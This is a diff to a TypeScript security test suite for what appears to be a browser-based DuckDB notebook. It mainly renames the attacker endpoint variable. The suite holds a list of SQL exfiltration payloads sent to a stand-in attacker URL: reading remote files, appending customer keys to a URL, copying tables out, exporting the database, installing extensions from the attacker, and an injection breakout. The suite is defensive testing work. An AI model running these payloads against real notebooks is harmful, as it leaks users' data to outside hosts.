@@ -1,15 +1,15 @@
 import {createSocket, type Socket} from "node:dgram";
 import type {AddressInfo} from "node:net";
 import type {Page} from "playwright-core";
-import {afterAll, beforeAll, beforeEach, describe, expect, inject, test} from "vitest";
-import {attackerLog, clearAttackerLog, closeBrowser, sql} from "../support/browser";
+import {afterAll, beforeAll, beforeEach, describe, expect, test} from "vitest";
+import {attackerLog, attackerUrl, clearAttackerLog} from "../support/attacker";
+import {closeBrowser, sql} from "../support/browser";
 import {cellsIn, dropFiles, sampleFile, settled} from "../support/checkup";
 import {footholds, mark, notebookFile, openWatched, type WatchedPage} from "../support/hostile";
 import {downloaded, importFiles} from "../support/importing";
 import {reportFile, sixOrders} from "../support/orders";
 import {columnNames, markup, short} from "../support/payloads";
 
-const attacker = inject("attackerUrl").replace(/\/$/, "");
 afterAll(closeBrowser);
 
 const button = (page: Page, name: string) => page.getByRole("button", {name, exact: true}).first();
@@ -56,7 +56,7 @@ describe("SQL in the cells of a notebook that somebody agreed to", () => {
     await importFiles(page, reportFile("orders.csv", sixOrders("43")));
     await settled(page);
     before = await sql(page, figures);
-    await clearAttackerLog();
+    clearAttackerLog();
   });
   afterAll(() => watched.close());
 
@@ -71,19 +71,19 @@ describe("SQL in the cells of a notebook that somebody agreed to", () => {
 
   /** One of each of the threat list, in the place where a stranger would put it. */
   const leaks: Readonly<Record<string, string>> = {
-    a1: `select * from read_csv('${attacker}/a1.csv')`,
-    a2: `select * from read_csv('${attacker}/a2?' || (select max(customer_key) from customers))`,
-    a3: `from '${attacker}/a3.csv'`,
-    a4: `select * from read_text('${attacker}/a4')`,
-    a5: `copy (select * from customers) to '${attacker}/a5.csv'`,
+    a1: `select * from read_csv('${attackerUrl}/a1.csv')`,
+    a2: `select * from read_csv('${attackerUrl}/a2?' || (select max(customer_key) from customers))`,
+    a3: `from '${attackerUrl}/a3.csv'`,
+    a4: `select * from read_text('${attackerUrl}/a4')`,
+    a5: `copy (select * from customers) to '${attackerUrl}/a5.csv'`,
     a6: "copy (select * from customers) to 'in/a6.csv'",
-    a7: `attach '${attacker}/a7.db' as a7`,
-    a8: `export database '${attacker}/a8'`,
-    a9: `install a9 from '${attacker}'`,
-    a10: `set custom_extension_repository = '${attacker}'`,
-    a11: `create secret s (type s3, endpoint '${attacker}')`,
-    a12: `from sniff_csv('${attacker}/a12.csv')`,
-    a13: `select 1) as t; from read_csv('${attacker}/a13.csv'); --`,
+    a7: `attach '${attackerUrl}/a7.db' as a7`,
+    a8: `export database '${attackerUrl}/a8'`,
+    a9: `install a9 from '${attackerUrl}'`,
+    a10: `set custom_extension_repository = '${attackerUrl}'`,
+    a11: `create secret s (type s3, endpoint '${attackerUrl}')`,
+    a12: `from sniff_csv('${attackerUrl}/a12.csv')`,
+    a13: `select 1) as t; from read_csv('${attackerUrl}/a13.csv'); --`,
     a14: "set enable_external_access = true",
     a14b: "from enable_logging(storage = 'file')"
   };
@@ -493,7 +493,7 @@ function tablesOf(page: Page, html: string): Promise<ReadTable[]> {
 
 describe("D4 the clipboard", () => {
   test("is read as plain text, on the page and in every editor", async () => {
-    await clearAttackerLog();
+    clearAttackerLog();
     const watched = await openWatched();
     const {page} = watched;
     await importFiles(page, reportFile("orders.csv", sixOrders("43")));
@@ -613,7 +613,7 @@ describe("sealed mode against a script that should never have run", () => {
     await importFiles(page, reportFile("orders.csv", sixOrders("43")));
     await settled(page);
     await page.evaluate(installWays);
-    await clearAttackerLog();
+    clearAttackerLog();
   });
   afterAll(async () => {
     udp.close();
@@ -633,7 +633,7 @@ describe("sealed mode against a script that should never have run", () => {
         const give = (globalThis as unknown as {huitouWays?: Record<string, (url: string) => void>}).huitouWays;
         give?.[name!]?.(url!);
       },
-      [way, `${attacker}/${way}`]
+      [way, `${attackerUrl}/${way}`]
     );
     if (ways[way]) await expect.poll(count).toBeGreaterThan(before);
     // a browser may connect ahead of a frame that it then refuses, and says nothing through that connection
